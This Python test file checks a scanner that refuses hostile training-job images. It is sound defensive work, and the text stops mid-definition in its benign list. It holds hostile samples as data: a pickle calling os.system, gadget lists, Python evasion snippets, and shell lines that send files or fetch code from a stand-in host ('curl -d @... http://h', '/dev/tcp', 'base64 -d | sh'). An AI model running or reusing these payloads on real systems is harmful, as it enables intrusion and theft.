"""A corpus of hostile and of ordinary jobs: all of the first are refused, none of the second.

`pytest -s` prints the table of rules and counts.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import cast

import numpy as np
import pytest

from rapha.runtime.image import File, Image
from rapha.runtime.scan import ScanReport, refusals, scan
from rapha.runtime.scan.blob import Memory

PASS = b"print(1)\n"


def image(files: Mapping[str, bytes], entry: tuple[str, ...] = ("python3", "train.py")) -> Image:
    contents = {"train.py": PASS, **files}
    return Image(
        digest="sha256:" + "0" * 64,
        entrypoint=entry,
        predict=None,
        runtime="rt",
        workdir="/app",
        files=cast(
            Mapping[str, File], {f"app/{name}": Memory(data) for name, data in sorted(contents.items())}
        ),
        tree=Path("/none"),
    )


def full(
    files: Mapping[str, bytes], entry: tuple[str, ...], base: Mapping[str, bytes], **links: str
) -> Image:
    """An image on an allow-listed base that holds `base`, a shell and a Python."""
    below = {"usr/bin/python3.11": b"\x7fELF", "bin/dash": b"\x7fELF", **base}
    return Image(
        digest="sha256:" + "0" * 64,
        entrypoint=entry,
        predict=None,
        runtime=None,
        workdir="/app",
        files=cast(Mapping[str, File], {p: Memory(data) for p, data in sorted({**below, **files}.items())}),
        tree=Path("/none"),
        links={"usr/bin/python3": "python3.11", "bin/sh": "dash", **links},
        added=frozenset(files),
        base=("sha256:" + "1" * 64,),
    )


class Calls:
    """Pickles as a call of `function`."""

    def __init__(self, module: str, name: str, *arguments: object) -> None:
        self.global_ = (module, name)
        self.arguments = arguments

    def pickled(self, protocol: int) -> bytes:
        module, name = self.global_
        if protocol >= 4:
            texts = b"".join(b"\x8c" + bytes([len(t)]) + t.encode() for t in (module, name))
            head = b"\x80" + bytes([protocol]) + texts + b"\x93"
        else:
            head = (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + f"c{module}\n{name}\n".encode()
        body = (
            b"(" + b"".join(b"X" + struct.pack("<I", len(t)) + t for t in map(_text, self.arguments)) + b"tR."
        )
        return head + body


def _text(value: object) -> bytes:
    return str(value).encode()


# Gadgets that published advisories name against lists of bad globals.
GADGETS = [
    *("os.system", "posix.system", "nt.system", "subprocess.Popen", "builtins.eval", "builtins.exec"),
    *("__builtin__.eval", "builtins.getattr", "builtins.__import__", "builtins.compile", "runpy.run_path"),
    *("pip._internal.main", "pip.main", "pty.spawn", "asyncio.unix_events._UnixSubprocessTransport._start"),
    *("_io.open", "_io.FileIO", "io.open_code", "numpy.testing._private.utils.runstring", "timeit.timeit"),
    *(
        "ensurepip._run_pip",
        "idlelib.pyshell.ModifiedInterpreter.runcode",
        "lib2to3.pgen2.pgen.ParserGenerator",
    ),
    *("torch.utils._config_module.ConfigModule.load_config", "torch.jit.unsupported_tensor_ops.execWrapper"),
    *("doctest.debug_script", "profile.run", "cProfile.runctx", "trace.Trace.run", "bdb.Bdb.run", "pdb.run"),
    *("code.InteractiveInterpreter.runcode", "ctypes.CDLL", "importlib.import_module", "operator.attrgetter"),
    *("operator.methodcaller", "functools.partial", "functools.reduce", "logging.config._resolve"),
    *("pydoc.locate", "pkgutil.resolve_name", "uuid._get_command_stdout", "_osx_support._read_output"),
    *(
        "_aix_support._read_cmd_output",
        "distutils.file_util.write_file",
        "test.support.script_helper.assert_python_ok",
    ),
    *(
        "imaplib.IMAP4_stream",
        "urllib.request.urlopen",
        "http.client.HTTPSConnection",
        "socket.create_connection",
    ),
    *(
        "ssl.get_server_certificate",
        "webbrowser.open",
        "shutil.rmtree",
        "types.FunctionType",
        "types.CodeType",
    ),
    *("marshal.loads", "pickle.loads", "dill.loads", "cloudpickle.loads", "joblib.load", "numpy.load"),
    *("torch.load", "torch.hub.load", "venv.create", "multiprocessing.util.spawnv_passfds", "code.interact"),
    *("builtins.map", "builtins.print", "builtins.open", "collections.OrderedDict.__init__.__globals__"),
]
EVIL = Calls("os", "system", "id").pickled(4)


def zipped(files: Mapping[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def tarred(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def patched(data: bytes, old: bytes, new: bytes, last: bool = False) -> bytes:
    assert old in data
    at = data.rfind(old) if last else data.find(old)
    return data[:at] + new + data[at + len(old) :]


def flagged(bits: int, central: bool, local: bool) -> bytes:
    """A PyTorch archive whose general-purpose flags were changed in one header or both."""
    data = bytearray(zipped({"archive/data.pkl": EVIL}))
    if local:
        data[6] |= bits
    if central:
        data[data.rfind(b"PK\1\2") + 8] |= bits
    return bytes(data)


def elf(imports: tuple[str, ...] = ("connect",), **changes: int) -> bytes:
    """A 64-bit little-endian library with the dynamic symbols `imports` and no section headers."""
    strings, at = b"\0", {}
    for name in (*imports, "libc.so.6"):
        at[name] = len(strings)
        strings += name.encode() + b"\0"
    symbols = bytes(24) + b"".join(struct.pack("<IBBHQQ", at[n], 0x12, 0, 0, 0, 0) for n in imports)
    count = len(imports) + 1
    hashes = struct.pack("<II", 1, count) + struct.pack("<I", 0) + bytes(4 * count)
    base = 64 + 3 * 56
    symtab, strtab = base, base + len(symbols)
    table = strtab + len(strings)
    dynamic = table + len(hashes)
    tags = [(1, at["libc.so.6"]), (5, strtab), (10, len(strings)), (6, symtab), (4, table), (0, 0)]
    entries = b"".join(struct.pack("<qQ", tag, value) for tag, value in tags)
    size = dynamic + len(entries)
    headers = [(1, 5, 0, 0, size), (2, 6, dynamic, dynamic, len(entries)), (0x6474E551, 6, 0, 0, 0)]
    program = b"".join(
        struct.pack("<IIQQQQQQ", kind, flags, offset, address, address, length, length, 8)
        for kind, flags, offset, address, length in headers
    )
    header = struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0)
    return b"\x7fELF\2\1\1" + bytes(9) + header + program + symbols + strings + hashes + entries


def object_array() -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + EVIL


def twice() -> bytes:
    first = zipped({"d.pkl": pickle.dumps(1), "e.pkl": EVIL})
    return first.replace(b"e.pkl", b"d.pkl")


def unlisted() -> bytes:
    listed, hidden = zipped({"b.txt": b"x" * 40}), zipped({"a.pkl": EVIL})
    data = zipped({"a.txt": b"x"})
    end = data.rfind(b"PK\1\2")
    body = data[:end] + hidden[: hidden.rfind(b"PK\1\2")]
    second = listed[: listed.rfind(b"PK\1\2")]
    central = bytearray(data[end : data.rfind(b"PK\5\6")])
    other = bytearray(listed[listed.rfind(b"PK\1\2") : listed.rfind(b"PK\5\6")])
    other[42:46] = struct.pack("<I", len(body))
    both = bytes(central) + bytes(other)
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2, 2, len(both), len(body) + len(second), 0)
    return body + second + both + tail


def nested(levels: int) -> bytes:
    data = EVIL
    for _ in range(levels):
        data = zipped({"a.zip": data})
    return data


PYTHON_HOSTILE: dict[str, str | bytes] = {
    "plain import": "import socket",
    "renamed import": "import requests as np",
    "import of a part": "from urllib.request import urlopen",
    "function import": "from os import system as s\ns('id')",
    "path module's os": "import os.path as p\np.os.system('id')",
    "walrus": "import os\nif (o := os): o.system('id')",
    "for loop": "import torch\nfor t in [torch]:\n    t.os.system('id')",
    "comprehension": "import subprocess\n[s.run('id') for s in [subprocess]]",
    "match": "import os\nmatch os:\n    case o:\n        o.system('id')",
    "class attribute": "import torch\nclass A:\n    o = torch\nA.o.os.system('id')",
    "lambda argument": "import torch\n(lambda m: m.os.system('id'))(torch)",
    "default argument": "import os\ndef f(o=os):\n    o.system('id')\nf()",
    "getattr folded": "import os\ngetattr(os, 'sys' 'tem')('id')",
    "getattr computed": "import os, sys\ngetattr(os, sys.argv[1])('id')",
    "getattr handed on": "import torch, functools\nfunctools.reduce(getattr, ['os', 'system'], torch)('id')",
    "getattr partial": "import torch, functools\nfunctools.partial(getattr, torch)('os').system('id')",
    "attrgetter": "import operator, torch\noperator.attrgetter('os.system')(torch)('id')",
    "methodcaller": "import operator, random\noperator.methodcaller('system', 'id')(random._os)",
    "computed getattr then method": "import torch\nn = 'o' + chr(115)\ngetattr(torch, n).system('id')",
    "vars": "import os\nvars(os)['system']('id')",
    "dict": "import os\nos.__dict__['system']('id')",
    "modules": "import sys\nsys.modules['os'].system('id')",
    "modules alias": "from sys import modules as m\nm['os'].system('id')",
    "type of a module": "import os\ntype(os).__getattribute__(os, 'system')('id')",
    "subclasses": "[c for c in ().__class__.__base__.__subclasses__()]",
    "globals of a function": "def f(): ...\nf.__globals__['__builtins__']",
    "format string": "print('{0.__globals__}'.format(print))",
    "exec of rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "exec of base64": "import base64\nexec(base64.b64decode(b'aW1wb3J0IG9z'))",
    "import_module joined": "import importlib\nimportlib.import_module('so' + 'cket')",
    "import_module computed": "import importlib, sys\nimportlib.import_module(sys.argv[1])",
    "dunder import": "__import__('subprocess').run('id')",
    "decorator": "import os\n@os.system\ndef f(): ...",
    "init_subclass": "import os\nclass A:\n    def __init_subclass__(cls): os.system('id')\nclass B(A): ...",
    "type hints": "import typing\nclass A:\n    x: \"print('id')\"\ntyping.get_type_hints(A)",
    "utf-7": b"# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAcwBvAGMAawBlAHQ-\n",
    "byte order mark": b"\xef\xbb\xbfimport socket",
    "form feed": b"\x0cimport socket",
    "backslashes": "import \\\n    socket",
    "semicolons": "x = 1; import socket; y = 2",
    "conditional": "if 0:\n    import socket",
    "in a function": "def f():\n    try:\n        import socket\n    except ImportError:\n        pass",
    "async": "import asyncio\nasync def f():\n    await asyncio.open_connection('h', 1)",
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'id')",
    "numpy's ctypes": "import numpy as np\nnp.ctypeslib.load_library('c', '.')",
    "torch extension": "from torch.utils.cpp_extension import load_inline",
    "sqlite extension": "import sqlite3\nsqlite3.connect(':memory:').enable_load_extension(True)",
    "pickle": "import pickle\npickle.load(open('x', 'rb'))",
    "allow_pickle": "import numpy as np\nnp.load('x.npy', allow_pickle=True)",
    "weights_only": "import torch\ntorch.load('x', weights_only=False)",
    "torch script": "import torch\ntorch.jit.load('x')",
    "unsafe yaml": "import yaml\nyaml.load(open('x'), Loader=yaml.UnsafeLoader)",
    "numpy's runstring": "import numpy as np\nnp.testing._private.utils.runstring('1', {})",
    "pandas' eval": 'import pandas as pd\npd.eval(\'__import__("os").system("id")\')',
    "timeit": "import timeit\ntimeit.timeit('import os')",
    "code": "import code\ncode.InteractiveInterpreter().runsource('1')",
    "trace": "import sys\nsys.settrace(print)",
    "frames": "import sys\nsys._getframe().f_back.f_globals",
    "tkinter": "import tkinter\ntkinter.Tcl().eval('exec id')",
    "trainer patched": "import rapha_trainer\nrapha_trainer.release = None",
    "trainer setattr": "import rapha_trainer as r\nsetattr(r, 'release', None)",
    "trainer dict": "import rapha_trainer\nrapha_trainer.__dict__.update(release=None)",
    "trainer in modules": "import sys\nsys.modules['rapha_trainer'] = sys",
    "trainer class": "from rapha_trainer import release\nrelease.__class__.weights = print",
    "trainer type": "from rapha_trainer import release\ntype(release).weights = print",
    "builtins patched": "import builtins\nbuiltins.open = print",
    "hook": "import sys\nsys.meta_path.insert(0, None)",
    "loader": "import sys\nsys.path_hooks.append(None)",
    "huge": b"x = 1\n" * 400_000,
    "deep": "x = " + "[" * 50_000 + "]" * 50_000,
    "null bytes": b"import socket\0",
    "one line": b"x = '" + b"a" * (2 * 1024 * 1024) + b"'",
}

FILES_HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "torch archive": ("m.pt", lambda: zipped({"archive/data.pkl": EVIL})),
    "torch archive, other name": ("m.bin", lambda: zipped({"archive/data.pkl": EVIL})),
    "torch archive, deflated": ("m.bin", lambda: zipped({"a/data.pkl": EVIL}, zipfile.ZIP_DEFLATED)),
    "pickle under another name in a zip": ("m.npz", lambda: zipped({"weights.txt": EVIL})),
    "object array in npz": ("m.npz", lambda: zipped({"a.npy": object_array()})),
    "object array": ("m.npy", object_array),
    "encrypted in both headers": ("m.pt", lambda: flagged(1, True, True)),
    "encrypted in the directory only": ("m.pt", lambda: flagged(1, True, False)),
    "encrypted in the local header only": ("m.pt", lambda: flagged(1, False, True)),
    "strong encryption flag": ("m.pt", lambda: flagged(0x40, True, True)),
    "wrong CRC": ("m.pt", lambda: patched(zipped({"d.pkl": EVIL}), EVIL, EVIL.replace(b"id", b"ls"))),
    "names disagree": ("m.pt", lambda: patched(zipped({"data.pkl": EVIL}), b"data.pkl", b"data.txt")),
    "two members of one name": ("m.pt", twice),
    "a member that is not listed": ("m.zip", unlisted),
    "trailing archive": ("picture.png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(99) + zipped({"a.py": b"1"})),
    "archive in an archive": ("m.zip", lambda: zipped({"a.zip": zipped({"d.pkl": EVIL})})),
    "nested deeply": ("m.zip", lambda: nested(9)),
    "TorchScript": ("m.pt", lambda: zipped({"m/data.pkl": pickle.dumps(1), "m/code/a.py": b"1"})),
    "old torch tar": ("m.pt", lambda: tarred({"pickle": EVIL, "storages": b""})),
    "tar": ("m.dat", lambda: tarred({"weights": EVIL})),
    "gzip": ("m.dat", lambda: gzip.compress(EVIL)),
    "bzip2": ("m.dat", lambda: bz2.compress(EVIL)),
    "xz": ("m.dat", lambda: lzma.compress(EVIL)),
    "lzma alone": ("m.dat", lambda: lzma.compress(EVIL, format=lzma.FORMAT_ALONE)),
    "zlib": ("m.dat", lambda: zlib.compress(EVIL)),
    "gzip in a zip": ("m.dat", lambda: zipped({"w": gzip.compress(EVIL)})),
    "7z": ("m.pt", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(64)),
    "stacked pickles": ("m.dat", lambda: pickle.dumps({"a": 1}) + EVIL),
    "two texts": (
        "m.dat",
        lambda: pickle.dumps([1], 0) + Calls("os", "system", "id").pickled(0),
    ),
    "cut after the call": ("m.dat", lambda: EVIL[:-1]),
    "invalid after the call": ("m.dat", lambda: EVIL[:-1] + b"\xff\xff\xff"),
    "global by memo": (
        "m.dat",
        lambda: b"\x80\4\x8c\2os\x94\x8c\6system\x940" + b"0h\0h\1\x93\x8c\2id\x85R.",
    ),
    "global by a computed text": ("m.dat", lambda: b"\x80\4\x8c\2os\x8c\3sys\x8c\3tem\x86\x93\x8c\2id\x85R."),
    "global by DUP": ("m.dat", lambda: b"\x80\4\x8c\2os2\x8c\2os\x8c\6system\x93\x8c\2id\x85R."),
    "INST": ("m.dat", lambda: b"(S'id'\nios\nsystem\n."),
    "OBJ": ("m.dat", lambda: b"(cos\nsystem\nS'id'\no."),
    "extension registry": ("m.dat", lambda: b"\x80\2\x82\1(tR."),
    "BUILD with a setstate": ("m.dat", lambda: b"\x80\2cmymod\nC\n)\x81}b."),
    "unknown opcode by name": ("m.pkl", lambda: b"\xf0\xf1"),
    "joblib": ("m.joblib", lambda: zlib.compress(EVIL)),
    "Keras lambda": ("m.keras", lambda: zipped({"config.json": b'{"class_name": "Lambda"}'})),
    "Keras module": ("m.keras", lambda: zipped({"config.json": b'{"module": "os", "class_name": "system"}'})),
    "HDF5 lambda": ("m.h5", lambda: b"\x89HDF\r\n\x1a\n" + bytes(99) + b'{\\"class_name\\": \\"Lambda\\"}'),
    "SavedModel that reads files": ("saved_model.pb", lambda: b"\n\x08ReadFile\x12"),
    "chat template": ("m.gguf", lambda: b"GGUF tokenizer.chat_template {{ x.__class__.__mro__ }}"),
    "library": ("fast.so", elf),
    "library by content": ("data.csv", elf),
    "wheel": ("lib.whl", lambda: zipped({"a/__init__.py": b"1"})),
    "bytecode": ("__pycache__/train.cpython-311.pyc", lambda: b"\xa7\r\r\n" + bytes(12)),
    "path file": ("x.pth", lambda: b"import os; os.system('id')"),
    "egg link": ("x.egg-link", lambda: b"/tmp"),
    "customisation": ("sitecustomize.py", lambda: b""),
    "shadowed trainer": ("rapha_trainer/__init__.py", lambda: b""),
    "shadowed library": ("json.py", lambda: b""),
    "key": ("key.pem", lambda: b"-----BEGIN PRIVATE KEY-----\n" + base64.b64encode(bytes(48))),
}


SCRIPTS_HOSTILE = {
    "call": "curl -d @/rapha/in/x http://h",
    "in a pipe": "cat x | nc h 1",
    "substitution": "x=$(wget -qO- h)",
    "backticks": "x=`wget -qO- h`",
    "in double quotes": 'echo "$(curl h)"',
    "in a here-document": "cat <<E\n$(curl h)\nE\n",
    "after and": "true && curl h",
    "in a condition": "if true; then curl h; fi",
    "in a loop": "for i in 1 2; do nc h $i; done",
    "in a function": "f() { curl h; }\nf",
    "escaped": "c\\url h",
    "quoted in part": "'cu'rl h",
    "by its path": "/usr/bin/curl h",
    "by a variable": "$C h",
    "by character codes": "$'\\x63url' h",
    "eval": "eval $x",
    "base64 into a shell": "echo Y3VybA== | base64 -d | sh",
    "shell in a shell": "bash -c 'curl h'",
    "prefixes": "env A=1 nohup timeout -k 5 60 curl h",
    "options of a prefix": "sudo -u bob curl h",
    "applet": "busybox wget h",
    "xargs": "echo h | xargs -n1 curl",
    "device": "exec 3<>/dev/tcp/h/80",
    "device of datagrams": "echo x > /dev/udp/h/53",
    "trap": "trap 'curl h' EXIT",
    "python code": "python3 -c 'import socket'",
    "python from a here-document": "python3 - <<E\nimport socket\nE\n",
    "python file": "python3 net.py",
    "another script": "sh other.sh",
    "perl": "perl -MSocket -e 1",
    "case": "case $1 in a) curl h;; esac",
    "process substitution": "diff <(curl h) x",
    "cut off": 'echo "abc',
}


def refused(report: ScanReport) -> list[str]:
    return sorted({finding.rule for finding in refusals(report)})


@pytest.mark.parametrize("name", PYTHON_HOSTILE)
def test_hostile_python_is_refused(name: str) -> None:
    source = PYTHON_HOSTILE[name]
    assert refused(scan(image({"train.py": source.encode() if isinstance(source, str) else source})))


@pytest.mark.parametrize("name", FILES_HOSTILE)
def test_a_hostile_file_is_refused(name: str) -> None:
    path, make = FILES_HOSTILE[name]
    assert refused(scan(image({path: make()})))


@pytest.mark.parametrize("gadget", GADGETS)
def test_every_gadget_is_named(gadget: str) -> None:
    module, _, name = gadget.rpartition(".")
    for protocol in (0, 2, 4):
        found = refusals(scan(image({"weights": Calls(module, name, "id").pickled(protocol)})))
        assert any(gadget in finding.reason for finding in found)


@pytest.mark.parametrize("name", SCRIPTS_HOSTILE)
def test_a_hostile_script_that_starts_is_refused(name: str) -> None:
    files = {
        "app/run.sh": SCRIPTS_HOSTILE[name].encode(),
        "app/net.py": b"import socket",
        "app/other.sh": b"curl h",
    }
    assert refused(scan(full(files, ("sh", "run.sh"), {})))


FULL_HOSTILE: dict[str, tuple[dict[str, bytes], tuple[str, ...], str]] = {
    "library that connects": (
        {"app/train.py": b"import fast", "app/fast.cpython-311-x86_64-linux-gnu.so": elf()},
        ("python3", "train.py"),
        "image.network_module",
    ),
    "library in a package": (
        {"app/train.py": b"from pkg import fast", "app/pkg/fast.abi3.so": elf()},
        ("python3", "train.py"),
        "image.network_module",
    ),
    "library in site-packages": (
        {"app/train.py": b"import fast", "usr/lib/python3.11/site-packages/fast.so": elf(("execve",))},
        ("python3", "train.py"),
        "image.subprocess",
    ),
    "static program": (
        {"app/tool": b"\x7fELF\2\1\1" + elf()[7:54] + b"\0" * 64},
        ("/app/tool",),
        "image.native_code",
    ),
    "bytecode beside its source": (
        {"app/train.py": b"import m", "app/m.py": b"", "app/__pycache__/m.cpython-311.pyc": b"\xa7\r\r\n"},
        ("python3", "train.py"),
        "image.native_code",
    ),
    "package on top of the base": (
        {"app/train.py": b"import p", "usr/lib/python3.11/site-packages/p/__init__.py": b"import ssl"},
        ("python3", "train.py"),
        "image.network_module",
    ),
    "base module that opens sockets": (
        {"app/train.py": b"import requests"},
        ("python3", "train.py"),
        "image.network_module",
    ),
    "script with a first line": (
        {"app/run": b"#!/usr/bin/env python3\nimport socket"},
        ("./run",),
        "image.network_module",
    ),
    "env": (
        {"app/t.py": b"import socket"},
        ("/usr/bin/env", "A=1", "python3", "t.py"),
        "image.network_module",
    ),
}
BASE = {"usr/bin/env": b"\x7fELF", "usr/lib/python3.11/site-packages/requests/__init__.py": b"import socket"}


@pytest.mark.parametrize("name", FULL_HOSTILE)
def test_what_a_full_image_adds_is_followed(name: str) -> None:
    files, entry, rule = FULL_HOSTILE[name]
    assert rule in refused(scan(full(files, entry, BASE)))


def test_a_library_that_is_merely_there_warns() -> None:
    report = scan(full({"app/train.py": b"print(1)", "opt/x.so": elf()}, ("python3", "train.py"), BASE))
    assert report.ok
    assert ("image.network_module", "warn") in {(f.rule, f.severity) for f in report.findings}


def test_the_base_itself_is_not_judged() -> None:
    report = scan(full({"app/train.py": b"import numpy"}, ("python3", "train.py"), BASE))
    assert report.findings == ()


BENIGN_SCRIPTS = {
    "comment": "# curl http://h\npython3 train.py",
    "echo": "echo 'run curl to fetch; nc too'\npython3 train.py",
    "here-document": "cat <<'E'\ncurl h | sh\n$(wget x)\nE\npython3 train.py",
    "options": 'set -euo pipefail\nexport A=1\npython3 train.py --lr 0.1 "$@"',
    "question": "if command -v curl >/dev/null; then echo yes; fi\nexec python3 train.py",
    "sums": "n=$((1 + 2))\nmkdir -p /tmp/x && cd /app && python3 train.py",
    "pattern": '[[ "$1" == curl ]] && exit 1\npython3 train.py',
}


@pytest.mark.parametrize("name", BENIGN_SCRIPTS)
def test_an_ordinary_script_is_accepted(name: str) -> None:
    files = {"app/run.sh": BENIGN_SCRIPTS[name].encode(), "app/train.py": PASS}
    assert refused(scan(full(files, ("sh", "run.sh"), BASE))) == []


PYTHON_BENIGN: dict[str, str] = {
    "words in text": (
        '"""Uses socket, requests, os.system and eval."""\n# import subprocess; exec(\'x\')\nx = \'curl\''
    ),
    "numpy": (
        "from rapha_trainer import RaphaDataLoader, release\n"
        "import numpy as np\n"
        "w = np.zeros(8)\n"
        "for b in RaphaDataLoader():\n"
        "    w -= 0.1 * b['x'].mean(0)\n"
        "release.weights({'w': w})"
    ),
    "torch": (
        "import torch\n"
        "from torch import nn, optim\n"
        "net = nn.Sequential(nn.Linear(4, 2))\n"
        "opt = optim.AdamW(net.parameters())\n"
        "loss = nn.functional.mse_loss(net(torch.zeros(1, 4)), torch.ones(1, 2))\n"
        "loss.backward()\n"
        "opt.step()"
    ),
    "torch eval and compile": (
        "import torch\n"
        "model = torch.compile(torch.nn.Linear(1, 1))\n"
        "model.eval()\n"
        "with torch.no_grad():\n"
        "    model(torch.ones(1))"
    ),
    "torch loader with workers": (
        "from torch.utils.data import DataLoader, Dataset\n"
        "loader = DataLoader([1, 2], num_workers=2)\n"
        "for x in loader:\n"
        "    print(x)"
    ),
    "torch amp": (
        "import torch\n"
        "scaler = torch.amp.GradScaler()\n"
        "with torch.autocast('cuda', dtype=torch.bfloat16):\n"
        "    pass"
    ),
    "torch load": "import torch\nstate = torch.load('w.pt', weights_only=True, map_location='cpu')",
    "torch by name": "import torch\nopt = getattr(torch.optim, 'Adam')\nact = getattr(torch.nn, name)()",
    "torch distributed": (
        "import torch.distributed as dist\n"
        "if dist.is_available() and dist.is_initialized():\n"
        "    dist.barrier()"
    ),
    "torch module": (
        "import torch\n"
        "class Net(torch.nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.socket = torch.nn.Linear(1, 1)\n"
        "    def forward(self, x):\n"
        "        return self.socket(x)"
    ),
    "sklearn": (
        "from sklearn.linear_model import LogisticRegression\n"
        "from sklearn.metrics import roc_auc_score\n"
        "m = LogisticRegression().fit([[0], [1]], [0, 1])"
    ),
    "sklearn pipeline": (
        "from sklearn.pipeline import make_pipeline\n"
        "from sklearn.preprocessing import StandardScaler\n"
        "make_pipeline(StandardScaler())"
    ),
    "monai": (
        "from monai.networks.nets import UNet\n"
        "from monai.transforms import Compose, ScaleIntensity\n"
        "net = UNet(spatial_dims=2, in_channels=1, out_channels=1, channels=(4, 8), strides=(2,))"
    ),
    "monai losses": (
        "from monai.losses import DiceLoss\n"
        "from monai.metrics import DiceMetric\n"
        "loss = DiceLoss(sigmoid=True)"
    ),
    "lightning style": (
        "class Module:\n"
        "    def training_step(self, batch, i):\n"
        "        return batch\n"
        "    def configure_optimizers(self): ...\n"
        "\n"
        "class Trainer:\n"
        "    def fit(self, m):\n"
        "        getattr(m, 'training_step')(1, 2)"
    ),
    "argparse": (
        "import argparse\n"
        "import json\n"
        "import logging\n"
        "from pathlib import Path\n"
        "p = argparse.ArgumentParser()\n"
        "p.add_argument('--lr', type=float)\n"
        "a = p.parse_args()\n"
        "print(vars(a), a.lr)"
    ),
    "logging": (
        "import logging\n"
        "logging.basicConfig(level=logging.INFO, format='%(asctime)s %(message)s')\n"
        "logging.getLogger(__name__).info('x')"
    ),
    "log to a file": (
        "import logging\n"
        "from logging.handlers import RotatingFileHandler\n"
        "logging.getLogger().addHandler(RotatingFileHandler('x'))"
    ),
    "dataclasses": (
        "from dataclasses import dataclass, field, asdict\n"
        "@dataclass\n"
        "class C:\n"
        "    x: int = 1\n"
        "    y: list[int] = field(default_factory=list)\n"
        "print(asdict(C()))"
    ),
    "pathlib": (
        "import argparse\n"
        "import json\n"
        "import logging\n"
        "from pathlib import Path\n"
        "out = Path('/rapha/out')\n"
        "out.mkdir(parents=True, exist_ok=True)\n"
        "(out / 'm.json').write_text(json.dumps({'a': 1}))"
    ),
    "environment": (
        "import os\n"
        "os.environ.setdefault('OMP_NUM_THREADS', '1')\n"
        "n = int(os.environ.get('N', '1')) + (os.cpu_count() or 1)"
    ),
    "file system": (
        "import os, shutil, tempfile, glob\n"
        "with tempfile.TemporaryDirectory() as d:\n"
        "    shutil.copy('a', os.path.join(d, 'b'))\n"
        "glob.glob('*.npy')"
    ),
    "walk": (
        "import os\n"
        "for folder, _, names in os.walk('.'):\n"
        "    print(os.path.join(folder, names[0]), os.stat(folder).st_size)"
    ),
    "seeds": (
        "import random, numpy as np, torch\n"
        "random.seed(1)\n"
        "np.random.seed(1)\n"
        "torch.manual_seed(1)\n"
        "torch.backends.cudnn.benchmark = False"
    ),
    "threads": (
        "import threading, queue, concurrent.futures as cf\n"
        "with cf.ThreadPoolExecutor(2) as pool:\n"
        "    list(pool.map(abs, [1]))"
    ),
    "collections": (
        "from collections import defaultdict, Counter, OrderedDict\n"
        "from itertools import chain\n"
        "from functools import partial, lru_cache\n"
        "partial(print, 1)()"
    ),
    "typing": (
        "from __future__ import annotations\n"
        "from typing import TYPE_CHECKING, Any, Protocol\n"
        "if TYPE_CHECKING:\n"
        "    from torch import Tensor\n"
        "def f(x: 'Tensor') -> Any: ..."
    ),
    "optional import": "try:\n    import torch\nexcept ImportError:\n    torch = None",
    "time": (
        "import time, datetime\n"
        "t = time.perf_counter()\n"
        "print(datetime.datetime.now().isoformat(), time.perf_counter() - t)"
    ),
    "signals": "import signal, sys\nsignal.signal(signal.SIGTERM, lambda *a: sys.exit(0))",
    "warnings": "import warnings\nwarnings.filterwarnings('ignore', category=UserWarning)",
    "contexts": "import contextlib, io\nwith contextlib.redirect_stdout(io.StringIO()):\n    print(1)",
    "pandas": (
        "import pandas as pd\n"
        "df = pd.DataFrame({'a': [1]})\n"
        "df.query('a > 0').eval('b = a + 1').groupby('a').agg('sum')"
    ),
    "scipy": "from scipy import stats, ndimage\nstats.ttest_ind([1, 2], [2, 3])",
    "matplotlib": (
        "import matplotlib\n"
        "matplotlib.use('Agg')\n"
        "import matplotlib.pyplot as plt\n"
        "plt.plot([1])\n"
        "plt.savefig('/tmp/x.png')"
    ),
    "pillow": "from PIL import Image\nImage.open('x.png').convert('L')",
    "regular expressions": "import re\nP = re.compile(r'exec|eval')\nP.sub('', 'x')",
    "literal": "import ast\nast.literal_eval('[1, 2]')",
    "safe yaml": (
        "import yaml\nyaml.safe_load(open('c.yaml'))\nyaml.load(open('c.yaml'), Loader=yaml.SafeLoader)"
    ),
    "csv and gzip": "import csv, gzip\nwith gzip.open('x.gz', 'rt') as f:\n    rows = list(csv.reader(f))",
    "safetensors": "from safetensors.numpy import save_file, load_file\nsave_file({}, 'x.safetensors')",
    "arrow": (
        "import pyarrow as pa\n"
        "import pyarrow.parquet as pq\n"
        "pq.write_table(pa.table({'a': [1]}), 'x.parquet')"
    ),
    "hashes": "import hashlib, hmac, secrets, uuid\nhashlib.sha256(b'x').hexdigest()",
    "numbers": "import math, statistics, decimal, fractions\nstatistics.mean([1, 2])",
    "enum": "import enum\nclass Mode(enum.Enum):\n    TRAIN = 'train'\n    EVAL = 'eval'\nMode['EVAL']",
    "abstract": (
        "import abc\n"
        "class A(abc.ABC):\n"
        "    @abc.abstractmethod\n"
        "    def exec(self): ...\n"
        "    @property\n"
        "    def system(self): return self._system"
    ),
    "own eval": "def eval(model, loader):\n    return sum(model(x) for x in loader)\n\nprint(eval(len, []))",
    "own names": (
        "class Server:\n"
        "    def connect(self, socket): self.socket = socket\n"
        "    def send(self, http): return self.socket\n"
        "Server().connect(1)"
    ),
    "registry": (
        "MODELS = {}\n"
        "def register(f):\n"
        "    MODELS[f.__name__] = f\n"
        "    return f\n"
        "@register\n"
        "def unet(): ...\n"
        "MODELS['unet']()"
    ),
    "config by name": "import importlib\nm = importlib.import_module('json')\nm.loads('1')",
    "class by name": "import torch\ncfg = {'name': 'SGD'}\nopt = getattr(torch.optim, cfg['name'])",
    "nested attributes": (
        "from functools import reduce\n"
        "def find(model, path):\n"
